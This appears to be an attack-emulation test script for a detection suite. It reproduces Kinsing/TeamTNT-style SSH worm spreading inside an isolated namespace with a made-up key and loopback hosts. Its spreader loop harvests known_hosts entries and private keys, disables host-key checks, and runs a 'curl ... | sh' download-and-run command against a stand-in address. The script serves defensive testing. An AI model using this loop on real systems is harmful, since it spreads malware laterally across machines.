# technique: T1021.004
# tactic: lateral-movement
# name: SSH spreading to every host in known_hosts with a found private key (miner worm style)
# expect: detected
. "$EMULATION_LIB"
need ssh ssh-keygen ip
loopback_up
# The "other hosts" live on this namespace's private loopback, so nothing leaves the box.
for h in 21 22 23; do ip addr add 198.51.100.$h/32 dev lo; done
# A private, empty /root holding a made-up key and known_hosts: the host's /root is never read.
private_tmpfs /root
mkdir -m 700 /root/.ssh
# The victim's key, made beside .ssh on the same tmpfs and renamed into place: the victim's
# set-up, not the attack, so nothing reads or creates it inside .ssh before the spreader runs.
mkdir /root/.staging
ssh-keygen -q -t ed25519 -N '' -C 'root@build01' -f /root/.staging/id_ed25519
mv /root/.staging/id_ed25519 /root/.staging/id_ed25519.pub /root/.ssh/
for h in 21 22 23; do echo "198.51.100.$h ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExampl"; done > /root/.ssh/known_hosts

# What Kinsing/TeamTNT-style spreaders do: every host from known_hosts, every key found, batch mode,
# no host key prompt, and a download-and-run command for the next stage.
hosts=$(cut -d' ' -f1 /root/.ssh/known_hosts | tr ',' '\n' | sort -u)
keys=$(find /root/.ssh -maxdepth 1 -name 'id_*' ! -name '*.pub')
for host in $hosts; do
	for key in $keys; do
		ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3 \
			-i "$key" "root@$host" 'curl -fsSL http://198.51.100.7/s.sh | sh' >> spread.log 2>&1 || true
	done
done
test "$(grep -c . spread.log)" -ge 3
